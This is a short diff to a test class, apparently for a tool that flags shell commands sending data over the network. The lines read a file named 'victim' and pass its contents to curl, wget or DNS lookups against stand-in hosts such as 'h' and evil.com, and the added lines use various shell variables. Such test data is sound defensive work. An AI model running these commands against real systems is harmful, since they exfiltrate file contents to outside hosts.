@@ -42,6 +42,14 @@ class NetworkDataTest {
                     mapfile -t a < victim; curl "http://h/${a[0]}"
                     mapfile < victim; curl "http://h/${MAPFILE[0]}"
                     read < victim; curl "http://h/$REPLY"
+                    curl http://h/$_
+                    curl http://h/$1
+                    curl http://h/${12}
+                    curl "http://h/$*"
+                    curl "http://h/$REPLY"
+                    curl http://h/${MAPFILE[0]}
+                    curl http://h/${BASH_REMATCH[1]}
+                    x=$1; wget http://h/$x
                     x=$(cat victim); y=${x:0:8}; dig $y.evil.com
                     x=$(cat victim); y=$x; z=$y; dig $z.evil.com
                     dig $(head -c8 victim).evil.com
